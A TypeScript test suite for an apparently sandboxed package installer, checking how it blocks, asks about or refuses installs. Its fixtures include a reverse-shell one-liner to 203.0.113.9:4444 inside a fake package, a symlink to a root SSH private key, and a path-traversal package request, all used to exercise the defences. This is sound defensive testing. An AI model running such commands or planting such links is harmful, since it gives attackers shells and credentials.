// The install pipeline's decisions against a fake engine and fake host processes: a critical finding
// blocks in CI and asks otherwise, Docker missing is explained (exit 2, no stack trace), a hostile
// copy-out fails the run and installs nothing.
import assert from 'node:assert/strict';
import { mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import { after, before, test } from 'node:test';
import type { ContainerCreateOptions } from 'dockerode';
import type { CliIo } from '../../../shared/src/cli/command';
import { createInstallCommand } from '../../../shared/src/cli/commands/install';
import { EngineUnavailableError, type PhaseContainer, type SandboxEngine } from '../../../shared/src/sandbox/docker';
import { DEFAULT_LIMITS } from '../../../shared/src/sandbox/hardening';
import { sandboxInstall, type InstallRequest } from '../../../shared/src/sandbox/installer';
import type { ProcessRunner, ProcessStarter } from '../../../shared/src/sandbox/local/process';
import { buildTar, type TarEntry } from '../../../shared/src/sandbox/tarBuilder';

const LOCK = JSON.stringify({ name: 'p', lockfileVersion: 3, packages: { '': { name: 'p' }, 'node_modules/evil-pkg': { version: '1.0.0', resolved: 'http://127.0.0.1:1/evil-pkg/-/evil-pkg-1.0.0.tgz', integrity: 'sha512-abc' } } });

function npmTree(indexJs: string, extra: TarEntry[] = []): TarEntry[] {
  return [
    { path: 'work/', type: 'Directory' },
    { path: 'work/package.json', content: '{"name":"p","version":"1.0.0","dependencies":{"evil-pkg":"^1.0.0"}}' },
    { path: 'work/package-lock.json', content: LOCK },
    { path: 'work/node_modules/evil-pkg/package.json', content: '{"name":"evil-pkg","version":"1.0.0","main":"index.js"}' },
    { path: 'work/node_modules/evil-pkg/index.js', content: indexJs },
    ...extra,
  ];
}

class FakeEngine implements SandboxEngine {
  constructor(private readonly tree: TarEntry[], private readonly available = true) {}
  containers = 0;
  removed = 0;
  execs: string[][] = [];
  async ping(): Promise<void> { if (!this.available) throw new EngineUnavailableError('the Docker daemon is not running'); }
  async hasImage(): Promise<boolean> { return true; }
  async pullImage(): Promise<void> {}
  async createVolume(): Promise<void> {}
  async removeVolume(): Promise<void> {}
  async sweep(): Promise<{ containers: number; volumes: number }> { return { containers: 0, volumes: 0 }; }
  async startContainer(_config: ContainerCreateOptions): Promise<PhaseContainer> {
    this.containers++;
    const tree = this.tree;
    return {
      id: 'c',
      exec: async (argv) => { this.execs.push([...argv]); return { exitCode: 0, stdout: '', stderr: '', ms: 1 }; },
      putArchive: async () => undefined,
      stop: async () => undefined,
      getArchive: async () => Readable.from([buildTar(tree)]),
      remove: async () => { this.removed++; },
    };
  }
}

const hostCommands: string[][] = [];
const fakeRun: ProcessRunner = async (command, args) => {
  hostCommands.push([command, ...args]);
  return { code: 0, stdout: '', stderr: '' };
};

let project: string;
before(async () => {
  project = await mkdtemp(path.join(os.tmpdir(), 'si-installer-'));
  await writeFile(path.join(project, 'package.json'), '{"name":"p","version":"1.0.0"}\n');
});
after(async () => { await rm(project, { recursive: true, force: true }); });

function request(extra: Partial<InstallRequest> = {}): InstallRequest {
  return { ecosystem: 'npm', packages: ['evil-pkg'], projectDir: project, dryRun: false, binaryOnly: false, ci: true, networkMode: 'bridge', registry: 'http://127.0.0.1:1/', allowScripts: [], limits: DEFAULT_LIMITS, ...extra };
}

const REVERSE_SHELL = 'require("child_process").exec("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1");\n';

test('a critical finding blocks the install in CI: nothing installed, no lockfile', async () => {
  const report = await sandboxInstall(request(), { engine: new FakeEngine(npmTree(REVERSE_SHELL)), run: fakeRun, env: {} });
  assert.equal(report.verdict, 'blocked', report.message);
  assert.ok(report.findings.some((f) => f.severity === 'critical' && f.package === 'evil-pkg'));
  assert.deepEqual((await readdir(project)).sort(), ['package.json'], 'project untouched, temp copy removed');
});

test('outside CI the user is asked, and a yes installs', async () => {
  const questions: string[] = [];
  const report = await sandboxInstall(request({ ci: false }), { engine: new FakeEngine(npmTree(REVERSE_SHELL)), run: fakeRun, env: {}, confirm: async (q) => { questions.push(q); return true; } });
  assert.equal(report.verdict, 'installed', report.message);
  assert.match(questions[0] ?? '', /Critical findings in evil-pkg/);
  const entries = await readdir(project);
  assert.ok(entries.includes('node_modules') && entries.includes('safe-install.lock'));
  assert.ok(hostCommands.some((c) => c.includes('rebuild') && c.includes('--ignore-scripts')), 'bins linked without scripts');
  await rm(path.join(project, 'node_modules'), { recursive: true, force: true });
  await rm(path.join(project, 'safe-install.lock'), { force: true });
  await rm(path.join(project, 'package-lock.json'), { force: true });
});

test('a hostile copy-out (symlink in the tree) fails the run and installs nothing', async () => {
  const tree = npmTree('module.exports = 1;\n', [{ path: 'work/node_modules/evil-pkg/key', type: 'SymbolicLink', linkpath: '/root/.ssh/id_ed25519' }]);
  const report = await sandboxInstall(request(), { engine: new FakeEngine(tree), run: fakeRun, env: {} });
  assert.equal(report.verdict, 'failed');
  assert.match(report.message, /symlink/);
  assert.deepEqual((await readdir(project)).sort(), ['package.json']);
});

test('without Docker the report explains what is missing and how to fix it', async () => {
  const report = await sandboxInstall(request(), { engine: new FakeEngine([], false), run: fakeRun, env: {}, platform: 'linux' });
  assert.equal(report.verdict, 'unavailable');
  assert.match(report.message, /Docker is not available: the Docker daemon is not running/);
  assert.match(report.message, /systemctl start docker/);
  assert.match(report.message, /--no-sandbox/);
});

test('the CLI exits 2 with that explanation and no stack trace', async () => {
  let out = '';
  let err = '';
  const io: CliIo = { stdout: (t) => { out += t; }, stderr: (t) => { err += t; }, cwd: project, env: { XDG_CONFIG_HOME: path.join(project, 'no-config') }, isTTY: false };
  const command = createInstallCommand({ engine: () => new FakeEngine([], false), run: fakeRun, homeDir: () => project, platform: 'darwin' });
  const code = await command(['-e', 'npm', 'left-pad', '--registry', 'http://127.0.0.1:1/', '--ci'], io);
  assert.equal(code, 2);
  assert.match(out, /UNAVAILABLE: Docker is not available/);
  assert.match(out, /Docker Desktop/);
  assert.doesNotMatch(out + err, /\n\s+at /, 'no stack trace');
  await assert.rejects(command(['-e', 'npm', 'x@file:../../etc'], io), /not a valid npm package request/);
});

test('pip: an interpreter that is not there fails the run before anything resolves, and the warm pip is cancelled', async () => {
  const engine = new FakeEngine([]);
  const missing = path.join(project, 'no-such-venv', 'bin', 'python');
  const run: ProcessRunner = async (command) => (command === missing ? { code: 127, stdout: '', stderr: 'not found' } : { code: 0, stdout: '', stderr: '' });
  const warm = { started: 0, finished: 0, cancelled: 0 };
  const start: ProcessStarter = () => {
    warm.started++;
    return { finish: async () => { warm.finished++; return undefined; }, cancel: async () => { warm.cancelled++; } };
  };
  const report = await sandboxInstall(request({ ecosystem: 'PyPI', packages: ['six'], python: missing }), { engine, run, start, env: {} });
  assert.equal(report.verdict, 'failed');
  assert.match(report.message, /no Python interpreter at '.*no-such-venv.*python'/);
  assert.deepEqual(engine.execs.filter((argv) => argv.join(' ').includes('resolve')), [], 'nothing was resolved');
  assert.equal(engine.removed, engine.containers, 'every container that started was removed');
  assert.deepEqual(warm, { started: 1, finished: 0, cancelled: 1 });
});

test('registry-only that cannot be had: the default falls back to bridge and says so; asked for explicitly, the run is refused', async () => {
  // The fake engine has no internal network (as on an engine whose networks live in a VM).
  const events: string[] = [];
  const fallback = await sandboxInstall(request({ networkMode: 'registry-only', networkFallback: 'bridge', dryRun: true }), { engine: new FakeEngine(npmTree('module.exports = 1;\n')), run: fakeRun, env: {}, progress: (e) => { if (e.type === 'log') events.push(e.line); } });
  assert.equal(fallback.verdict, 'dry-run', fallback.message);
  assert.ok(fallback.phases.some((p) => p.phase === 'fetch' && p.network === 'bridge'));
  assert.ok(events.some((l) => /registry-only fetch network unavailable .* uses 'bridge' and can connect anywhere/.test(l)), events.join('\n'));
  assert.ok(fallback.notes.some((n) => /fetch network: bridge because registry-only was unavailable here/.test(n)), fallback.notes.join('\n'));
  const engine = new FakeEngine(npmTree('module.exports = 1;\n'));
  const strict = await sandboxInstall(request({ networkMode: 'registry-only' }), { engine, run: fakeRun, env: {} });
  assert.equal(strict.verdict, 'refused');
  assert.match(strict.message, /no internal network for registry-only fetches/);
  assert.equal(engine.containers, 0, 'nothing started');
});

test('go: a GOPROXY on this machine cannot be reached through the registry-only network, and the refusal says what to do', async () => {
  const engine = new FakeEngine([]);
  const report = await sandboxInstall(request({ ecosystem: 'Go', packages: ['example.com/m@v1.0.0'], networkMode: 'registry-only', networkFallback: 'bridge', registry: 'http://127.0.0.1:3000' }), { engine, run: fakeRun, env: {} });
  assert.equal(report.verdict, 'refused');
  assert.match(report.message, /Go never sends a request for this machine's own address \(127\.0\.0\.1:3000\).*--network-mode host/);
  assert.equal(engine.containers, 0);
});
